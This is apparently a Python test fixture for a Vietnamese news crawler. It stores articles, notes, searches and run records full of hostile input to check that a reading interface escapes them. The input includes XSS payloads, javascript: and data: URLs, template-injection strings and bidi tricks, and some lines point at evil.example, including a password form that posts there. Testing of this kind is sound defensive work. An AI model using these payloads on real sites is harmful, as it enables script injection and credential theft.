"""What hostile outlets and users may write, stored wherever the desk shows their words."""

from dataclasses import replace
from datetime import timedelta

from sqlalchemy import Engine, insert

from crawler import clock
from crawler.ledger import Fetched
from crawler.records import Article, Image
from health.records import Fault
from store.articles import Arrival, store_articles
from store.by_hand import add_note, mark_for_review
from store.engine import WRITES, writing
from store.findings import write_verdicts
from store.models import FrontierRow, RunRow
from store.reading import Wanted, list_articles
from store.saved import save_search
from tests.stored import article
from topics.tagger import Match, Tags

# A page of the outlets may hold any of these as text; `hostile` stands in each.
TEXTS = (
    "<script>window.hostile = 1</script>",
    "<img src=x onerror='window.hostile = 1'>",
    "<svg/onload=window.hostile=1>",
    "<style>body { display: none } /* hostile */</style>",
    "<link rel=stylesheet href=https://evil.example/hostile.css>",
    "<iframe src=https://evil.example/hostile></iframe>",
    "<form action=https://evil.example/hostile><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/hostile'>",
    "<base href=https://evil.example/hostile/>",
    '"><script>window.hostile = 1</script>',
    "' autofocus onfocus='window.hostile = 1' x='",
    "</title></textarea></style></script><script>window.hostile = 1</script>",
    "--><script>window.hostile = 1</script><!--",
    "<div hx-get=/hostile hx-trigger=load>x</div>",
    '" hx-get="/hostile" hx-trigger="load" x="',
    "<a href='javascript:window.hostile = 1'>hostile</a>",
    "{{ 7 * 191 }} {% raw %} ${7 * 191} hostile",
    "%(hostile)s %s %d {0} {hostile}",
    "\u202ehostile \u2066gnưv\u2069 tnac\u202c",
    "ho\u200bsti\u2060le\ufeff\u00ad",
    "hostile " + "Z\u0351\u0352\u0353\u0354" * 200,
    "hostile\x1b[31m\x07\x08",
    "hostile\u2028window\u2029",
)
URLS = (
    "javascript:window.hostile=1",
    "JaVaScRiPt:window.hostile=1//https://vtv.vn/",
    "data:text/html,<script>window.hostile=1</script>",
    "vbscript:hostile",
    "https://evil.example@vtv.vn/hostile",
    'https://vtv.vn/"onmouseover="window.hostile=1',
    "//evil.example/hostile",
    "https://vtv.vn/\u202egpj.hostile",
)
HUGE = "Công an bắt ma túy hostile " * 200_000  # 5 MB


def _hostile(number: int) -> Article:
    text = HUGE if number == len(TEXTS) else TEXTS[number]
    url = URLS[number % len(URLS)]
    return article(
        number,
        f"Bắt ma túy {text}",
        f"Đoạn đầu ma túy.\n\n{text[:5_000]}\n\nĐoạn cuối.",
        lead=f"Sapo {text[:5_000]}",
        section=text[:200],
        authors=(text[:200],),
        tags=(text[:200],),
        canonical_url=url,
        url=url,
        images=(Image(url, text[:500]),),
        published_at=clock.now() - timedelta(minutes=number + 1),
    )


def _arrival(read: Article, key: int | None = None) -> Arrival:
    found = Match("drugs", f"drugs/strong: {read.section}", read.section, "title", 4, 10)
    return Arrival(read, Tags(("drugs",), True, (found,)), Fetched(0), key)


def store_hostile(engine: Engine, user: str) -> None:
    """Store the corpus: articles in two versions, notes, searches, runs, findings.

    Args:
        engine: the database.
        user: a user's name: whose the searches and notes are.
    """
    read = [_hostile(number) for number in range(len(TEXTS) + 1)]
    changed = [replace(each, body=f"Sửa: {each.body}") for each in read]
    _store(engine, [_arrival(each) for each in read])
    keys = [line.id for line in list_articles(engine, Wanted(), len(read))]
    _store(engine, [_arrival(each, key) for each, key in zip(changed, keys, strict=True)])
    for key, text in zip(keys, TEXTS, strict=False):
        add_note(engine, key, text, user)
        mark_for_review(engine, key, user)
    for number, text in enumerate(TEXTS):
        save_search(engine, f"{number} {text[:90]}", "ma túy", user)
    _store_runs(engine)
    faults = [
        Fault("source_failing", "vtv", text, clock.now(), {"why": text}, URLS) for text in TEXTS
    ]
    write_verdicts(engine, faults, clock.now())


def _store(engine: Engine, arrivals: list[Arrival]) -> None:
    for arrival in arrivals:
        with engine.connect().execution_options(**WRITES) as connection, connection.begin():
            store_articles(connection, [arrival], "rules", clock.now())


def _store_runs(engine: Engine) -> None:
    now = clock.now()
    with writing(engine) as connection:
        run = {"id": 1, "outlet": "vtv", "started_at": now, "finished_at": now, "bytes": 0}
        run |= {"status": "failed", "requests": 1, "problem": TEXTS[0], "bounded": False}
        connection.execute(insert(RunRow), run)
        rows = [
            {
                "row": number + 1,
                "run": 1,
                "kind": "article",
                "identity": url,
                "url": url,
                "site": "vtv.vn",
                "article_id": "",
                "via": url,
                "found_at": now,
                "outcome": "http_error",
                "detail": TEXTS[number],
            }
            for number, url in enumerate(URLS)
        ]
        connection.execute(insert(FrontierRow), rows)
